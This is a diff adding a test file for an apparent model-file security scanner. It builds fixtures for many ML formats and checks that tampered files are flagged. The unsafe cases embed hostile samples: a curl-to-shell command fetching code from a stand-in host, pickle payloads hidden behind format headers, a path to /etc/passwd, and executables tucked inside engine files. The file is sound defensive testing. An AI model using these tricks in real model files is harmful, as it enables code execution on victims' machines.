@@ -1,0 +1,115 @@
+import { PAYLOAD, bytes, floats, proto, run, u16, u32, u64, utf8, zeros } from '../../../../testing';
+
+const pickle = proto(2, PAYLOAD);
+const text16 = (value: string): Uint8Array => bytes(u16(value.length + 1), value, 0);
+
+/** One word, a matrix of one row of two numbers, and another one. */
+function fastText(rows = 1): Uint8Array {
+  const matrix = bytes(0, u64(rows), u64(2), floats(2));
+  const words = bytes(u32(1), u32(1), u32(0), u64(1), u64(0), 'the\0', u64(5), 0);
+  return bytes(u32(793712314), u32(12), zeros(48), zeros(8), words, matrix, matrix);
+}
+
+function ctranslate2(size = 8): Uint8Array {
+  const tensor = bytes(text16('encoder/w'), 1, u32(2), 0, u32(size), floats(2));
+  return bytes(u32(6), text16('TransformerSpec'), u32(7), u32(1), tensor, u32(1), text16('a'), text16('b'));
+}
+
+function crf(offset = 48): Uint8Array {
+  const size = 80;
+  return bytes('lCRF', u32(size), 'FOMC', u32(100), zeros(12), ...[48, 50, 60, 70, offset].map(u32), zeros(32));
+}
+
+function hnsw(): Uint8Array {
+  const header = bytes(u64(0), u64(10), u64(2), u64(24), u64(16), u64(8), zeros(48));
+  return bytes(header, zeros(48), u32(0), u32(4), zeros(4));
+}
+
+const faiss = (...inside: readonly Uint8Array[]): Uint8Array =>
+  bytes('IxF2', u32(16), u64(1), u64(2 ** 20), u64(2 ** 20), 1, u32(1), ...inside, floats(16));
+const onDisk = (file: string): Uint8Array => bytes('ilod', u64(1), u64(8), u64(0), u64(0), u64(file.length), file);
+
+test.each([
+  ['fasttext', fastText(), 'm.bin'],
+  ['ctranslate2', ctranslate2(), 'model.bin'],
+  ['crfsuite', crf(), 'm.crfsuite'],
+  ['hnswlib', hnsw(), 'i.bin'],
+  ['word2vec-binary', bytes('2 2\n', 'a ', floats(2), '\nb ', floats(2), '\n'), 'v.bin'],
+  ['word2vec-text', utf8('2 3\nking 0.1 0.2 0.3\nqueen -0.1 0.5 1e-3\n'), 'v.vec'],
+  ['glove', utf8(['the', 'of'].map(word => `${word} 0.1 -0.2 3e-2 4 5 6 7 8 9\n`).join('')), 'glove.txt'],
+  [
+    'libsvm',
+    utf8('svm_type c_svc\nkernel_type rbf\ngamma 0.5\nrho -0.1\nlabel 1 -1\nSV\n0.5 1:0.5 2:-1e-3\n'),
+    'm.model'
+  ],
+  ['libsvm', utf8('solver_type L2R_LR\nnr_class 2\nlabel 1 2\nnr_feature 2\nbias -1\nw\n0.5 \n-0.25 \n'), 'm.model'],
+  ['ncnn', utf8('7767517\n2 2\nInput data 0 1 data 0=3\nConvolution c1 1 1 data out 0=16 1=3\n'), 'm.param'],
+  ['faiss', faiss(), 'i.index'],
+  ['kaldi', bytes('\0B<TransitionModel> ', zeros(64)), 'final.mdl'],
+  ['rknn', bytes('RKNN', zeros(64)), 'm.rknn'],
+  ['darknet', bytes(u32(0), u32(2), u32(0), u64(64), floats(64)), 'yolo.weights'],
+  ['dlib', bytes(1, 1, 1, 13, 'loss_metric_2', zeros(64)), 'm.dat'],
+  ['matlab', bytes('MATLAB 5.0 MAT-file, Platform: GLNXA64'.padEnd(124), 0, 1, 'IM', zeros(64)), 'm.mat']
+])('honest: %s', (format, data, name) => {
+  expect(run(data, {}, name)).toMatchObject({ verdict: 'clean', format });
+});
+
+test.each([
+  ['fastText, cut', fastText(9), 'm.bin'],
+  ['CTranslate2, cut', ctranslate2(9_000_000), 'model.bin'],
+  ['word2vec with a rest', bytes('1 2\n', 'a ', floats(2), '\nand more'), 'v.bin'],
+  ['words among vectors', utf8('2 3\nking 0.1 0.2 0.3\nthis is prose\n'), 'v.vec']
+])('not clean: %s', (_name, data, name) => {
+  expect(run(data, {}, name).verdict).toBe('incomplete');
+});
+
+test.each([
+  ['an offset behind the end', crf(4000), 'm.crfsuite'],
+  ['a pickle behind a header', bytes('RKNN', pickle), 'm.rknn'],
+  ['a pickle in an index', faiss(pickle), 'i.index'],
+  ['code among the texts', bytes('RKNN', zeros(8), '{"cmd":"curl http://e.x/p | sh"}', zeros(8)), 'm.rknn'],
+  ['lists in a file of the system', faiss(onDisk('/etc/passwd.txt')), 'i.index'],
+  [
+    'a library in an engine',
+    bytes('ftrt', zeros(60), '\x7fELF\x02\x01\x01', zeros(9), u16(3), u16(62), zeros(64)),
+    'm.engine'
+  ],
+  [
+    'a program for Windows in an engine',
+    bytes('ftrt', zeros(60), 'MZ', zeros(58), u32(64), 'PE\0\0', zeros(64)),
+    'm.plan'
+  ]
+])('unsafe: %s', (_name, data, name) => {
+  expect(run(data, {}, name).verdict).toBe('unsafe');
+});
+
+test('an engine with code for a GPU is to be reviewed', () => {
+  const engine = bytes('ftrt', zeros(60), '\x7fELF\x02\x01\x01', zeros(9), u16(2), u16(190), zeros(64));
+  expect(run(engine, {}, 'm.engine').verdict).toBe('review');
+});
+
+describe('numbers that only a name tells', () => {
+  const numbers = bytes(floats(400));
+
+  test.each([
+    'model.onnx.data',
+    'model.onnx_data_1',
+    'group1-shard1of2.bin',
+    'weight.bin',
+    'variables.data-00000-of-00001',
+    'i.ann'
+  ])('%s', name => {
+    expect(run(numbers, {}, name).verdict).toBe('clean');
+    expect(run(bytes(numbers, pickle), {}, name).verdict).toBe('unsafe');
+    expect(run(pickle, {}, name).verdict).toBe('unsafe');
+  });
+
+  test('another name proves nothing', () => {
+    expect(run(numbers, {}, 'model.bin').coverage[0]).toMatchObject({
+      status: 'not-understood',
+      reason: 'unknown-format',
+      params: { bytes: expect.stringMatching(/^([0-9a-f]{2} ){7}[0-9a-f]{2}$/) as string }
+    });
+    expect(run(bytes(numbers, 'PK\x05\x06', zeros(18)), {}, 'weight.bin').verdict).not.toBe('clean');
+  });
+});
